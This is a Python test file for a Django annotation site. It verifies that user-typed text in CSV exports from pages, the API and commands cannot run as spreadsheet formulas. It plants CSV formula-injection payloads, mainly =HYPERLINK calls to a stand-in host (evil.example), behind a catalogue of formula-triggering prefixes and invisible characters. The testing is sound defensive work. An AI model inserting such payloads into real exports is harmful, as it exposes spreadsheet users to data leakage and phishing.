"""Every table that the site gives: texts of people run in no spreadsheet, and are raw elsewhere.

The tables are found by the addresses, by the links and forms of the pages, by the document of the
API, and by the options of the commands: one that is new is tried without a line here.
"""

import csv
import io
import itertools
import logging
import re
import zipfile
from collections.abc import Collection, Iterator, Mapping, Sequence
from contextlib import suppress
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, urlencode, urljoin, urlsplit

import pytest
from bs4 import BeautifulSoup
from django.contrib.auth.models import User
from django.test import Client
from django.urls import NoReverseMatch, Resolver404, resolve, reverse
from drf_spectacular.generators import SchemaGenerator
from pytest_django import Settings
from rest_framework.test import APIClient

from annotation import urls
from annotation.labels.queries.scheme_files import SCHEME_FILES
from annotation.models import (
    Assignment,
    AuditEvent,
    Batch,
    Choice,
    DiscardedVotes,
    ExcludedWorker,
    Label,
    ModelRater,
    Study,
    StudyReport,
    Vote,
    Worker,
)
from annotation.workers.operations.discard_votes import votes_discard
from annotation.workers.operations.exclude import worker_exclude
from pooling.models import ListPlace, Pool
from tests.commands import run
from tests.measured import storages_in
from tests.site.every_command import options
from tests.site.every_page import full_pages, names_in, signed_in

pytestmark = [pytest.mark.django_db(databases=["default", "crowd"]), pytest.mark.long]

log = logging.getLogger(__name__)

#: Parts of a table, which is asked for as a whole.
_PARTS = {"page", "sort", "what", "who"}

MARK = "HYPERLINK"
#: How a text may begin or go on, so that a spreadsheet runs what follows.
BEGINNINGS = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", '"=', '""=', "'' ="),
    *("a;=", "a\t=", "a\r\n="),
    *("\uff1d", "\uff0b", "\uff0d", "\uff20", " \uff1d", "\t", "\r", "\ufeff=", "\u200b="),
)
#: What people type; ids, queries, passages and labels are not theirs to word.
TEXTS: Mapping[Any, tuple[str, ...]] = {
    AuditEvent: ("actor",),
    Assignment: ("comment",),
    Batch: ("name", "title", "description", "keywords", "contact"),
    Choice: ("text",),
    DiscardedVotes: ("reason", "by"),
    ExcludedWorker: ("reason", "by"),
    Label: ("reason",),
    ModelRater: ("name", "actor"),
    Pool: ("name",),
    Study: ("name", "description"),
    StudyReport: ("name",),
}


def runs(cell: str) -> bool:
    """Return whether a spreadsheet could run a part of the cell as a formula."""
    parts = re.split(r"(?<=[;\t\r\n])", cell)
    return any(
        part.strip(' "\u00a0\t\r\n\ufeff\u200b')[:1] in set("=+-@\uff0b\uff0d\uff1d\uff20")
        and MARK in part
        for part in parts
    ) or (MARK in cell and cell[:1] in set("\t\r"))


def let_people_type(without: Collection[str] = ()) -> None:
    """Put formulas wherever people type: each row another beginning."""
    beginnings = itertools.cycle(BEGINNINGS)
    for vote in Vote.objects.all():
        Choice.objects.create(vote=vote, question="remark", option="", text="any")
    for table, names in TEXTS.items():
        rows = getattr(table, "everything", table._default_manager)
        assert rows.exists(), f"nobody typed anything in {table.__name__}"
        for row in rows.all():
            texts = {
                name: f'{next(beginnings)}{MARK}("http://evil.example/?{row.pk}")'
                for name in names
                if name not in without and (getattr(row, name) or table is not Choice)
            }
            rows.filter(pk=row.pk).update(**texts)
    for pool in Pool.objects.all():
        places = ListPlace.objects.filter(query__pool=pool)
        runs_of = {
            name: f"{next(beginnings)}{MARK}({name})"
            for name in set(places.values_list("run", flat=True))
        }
        for name, named in runs_of.items():
            places.filter(run=name).update(run=named)
        sizes = pool.summary["list_sizes"]
        pool.summary["list_sizes"] = {
            runs_of[name.rpartition(":")[0]] + f":{name.rpartition(':')[2]}": size
            for name, size in sizes.items()
        }
        pool.save(update_fields=["summary"])
    for event in AuditEvent.objects.all():
        event.detail = {**event.detail, "reason": f"{next(beginnings)}{MARK}(1)"}
        event.save(update_fields=["detail"])


def tables_of(client: Client, pages: list[str]) -> Iterator[tuple[str, list[str]]]:
    """Every table that the pages lead to, by its address."""
    waiting, seen = [*pages], set[object]()
    while waiting:
        address = waiting.pop()
        parts = urlsplit(address)
        try:
            match = resolve(parts.path)
        except Resolver404:
            continue
        values = dict(parse_qsl(parts.query))
        kind = (match.view_name, *match.kwargs.values(), *sorted(values.items()))
        if parts.netloc or kind in seen or values.keys() & _PARTS:
            continue
        seen.add(kind)
        answer = client.get(address)
        content = b"".join(answer) if answer.streaming else answer.content
        if "csv" in answer.get("Content-Type", "") and answer.status_code == 200:
            yield address, cells_of(content)
        if "html" in answer.get("Content-Type", "") and not answer.streaming:
            waiting += led_to(BeautifulSoup(answer.content, "html.parser"), address)


def led_to(page: BeautifulSoup, address: str) -> Iterator[str]:
    """What links and forms that only ask lead to, a form with each of its choices."""
    for link in page.find_all("a", href=True):
        if link.has_attr("download"):
            yield urljoin(address, str(link["href"]))
    for form in page.find_all("form", method=lambda method: (method or "get").lower() == "get"):
        usual = {
            str(field["name"]): str(field.get("value", ""))
            for field in form.find_all("input")
            if field.get("name") and field.get("type") not in {"checkbox", "radio"}
        }
        for select in form.find_all("select", attrs={"name": True}):
            for option in select.find_all("option"):
                chosen = usual | {str(select["name"]): str(option.get("value", option.text))}
                yield urljoin(address, f"{form.get('action', '')}?{urlencode(chosen)}")


def cells_of(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row]


def marked_in(tables: Mapping[str, Sequence[str]]) -> dict[str, int]:
    return {name: sum(MARK in cell for cell in cells) for name, cells in tables.items()}


def typed() -> set[str]:
    """All that people have typed, as it is stored."""
    return set(ListPlace.objects.values_list("run", flat=True)) | {
        text
        for table, names in TEXTS.items()
        for row in getattr(table, "everything", table._default_manager).values_list(*names)
        for text in row
    }


@pytest.fixture
def world(settings: Settings, tmp_path: Path) -> tuple[Client, list[str]]:
    """A browser of a member of staff, and the pages of studies where people may type."""
    settings.DATA_DIR, settings.STORAGES = tmp_path, storages_in(tmp_path)
    client = signed_in()
    pages = full_pages(client, tmp_path)
    batch = Batch.objects.get(name="study")
    votes_discard(batch=batch, worker_id="A0", reason="any", actor="test")
    worker = Worker.objects.get(worker_id="A1")
    worker_exclude(batch=batch, worker=worker, reason="any", actor="test")
    return client, pages


def test_no_table_of_a_page_has_a_text_that_runs(world: tuple[Client, list[str]]) -> None:
    client, pages = world
    let_people_type()
    tables = dict(tables_of(client, [*pages, *tables_by_name()]))
    log.info("%d tables, texts in each: %s", len(tables), marked_in(tables))
    running = {address: list(filter(runs, cells)) for address, cells in tables.items()}
    assert {name: cells for name, cells in running.items() if cells and "raw=on" not in name} == {}
    assert any(cells for name, cells in running.items() if "raw=on" in name)
    assert len(tables) > 30


def tables_by_name() -> Iterator[str]:
    """The table of each page that has a number alone, whether or not a page leads to it."""
    numbers = {row.pk for table in (Batch, Study, Pool) for row in table.objects.all()}
    for name, number in itertools.product(sorted(set(names_in(urls.urlpatterns))), numbers):
        with suppress(NoReverseMatch):
            yield reverse(name, args=[number], query={"as": "csv"})


def test_tables_of_the_api_have_texts_as_they_were_typed(
    world: tuple[Client, list[str]],
) -> None:
    let_people_type()
    caller = APIClient()
    caller.force_authenticate(User.objects.get(username="lab"))
    found = {}
    for address in addresses_of_tables():
        answer = caller.get(address)
        if answer.status_code == 200 and "csv" in answer["Content-Type"]:
            found[address] = cells_of(b"".join(answer))
    log.info("%d tables, texts in each: %s", len(found), marked_in(found))
    cells = {cell for cells in found.values() for cell in cells if MARK in cell}
    assert cells <= typed()
    assert any(map(runs, cells))
    assert len(found) > 10


def addresses_of_tables() -> Iterator[str]:
    """Every address of the API that may answer with a table, for each batch and each choice."""
    document = SchemaGenerator().get_schema(request=None, public=True)
    for path, methods in document["paths"].items():
        replies = methods.get("get", {"responses": {}})["responses"].values()
        if not any("text/csv" in reply.get("content", ()) for reply in replies):
            continue
        choices = [
            [(field["name"], choice) for choice in field["schema"]["enum"]]
            for field in methods["get"]["parameters"]
            if "enum" in field["schema"]
        ]
        for batch, file, query in itertools.product(
            Batch.objects.values_list("pk", flat=True), SCHEME_FILES, itertools.product(*choices)
        ):
            yield f"{path.format(batch=batch, file=file)}?{urlencode(query)}"


#: What the commands are given beside --output; those without a text of people are None.
COMMANDS: dict[str, list[list[str]] | None] = {
    "label export": [["study"]],
    "label export-votes": [["study", "--format", layout] for layout in ("plain", "mturk")],
    "scheme export": [["faith", "--file", file] for file in SCHEME_FILES],
    "study bundle": [["gender"], ["s"]],
    "study release": [["s", "--creators", "Ada", "--license", "cc-by-4.0"]],
    "demo": None,  # makes a study of its own
    "pool build": None,  # files of a collection and runs
    "report make": None,
    "scheme convert": None,  # the scheme
    "scheme task-builder": None,
}


def test_tables_of_commands_have_texts_as_they_were_typed(
    world: tuple[Client, list[str]], tmp_path: Path
) -> None:
    names = {
        name
        for name, action in options()
        if "--output" in action.option_strings and not name.startswith("fairpool")
    }
    assert names == COMMANDS.keys()
    let_people_type(without={"name"})  # of what a command is told
    texts, tables = typed(), dict[str, list[str]]()
    for name, calls in COMMANDS.items():
        for number, words in enumerate(calls or ()):
            output = tmp_path / f"{name} {number}"
            output = output.with_suffix(".zip") if name == "study bundle" else output
            run(*name.split(), *words, "--output", output)
            for table, cells in tables_in(output):
                tables[f"{name} {' '.join(words)}, {table}"] = cells
    log.info("%d tables, texts in each: %s", len(tables), marked_in(tables))
    marked = {cell for cells in tables.values() for cell in cells if MARK in cell}
    assert marked <= texts
    assert any(map(runs, marked))


def tables_in(output: Path) -> Iterator[tuple[str, list[str]]]:
    """The tables that a command wrote, by their names in a folder or zip."""
    if output.is_dir():
        yield from ((path.name, cells_of(path.read_bytes())) for path in output.rglob("*.csv"))
    elif output.suffix == ".zip":
        with zipfile.ZipFile(output) as archive:
            for name in archive.namelist():
                if name.endswith(".csv"):
                    yield name, cells_of(archive.read(name))
    elif "," in output.read_text(encoding="utf-8").partition("\n")[0]:
        yield "", cells_of(output.read_bytes())
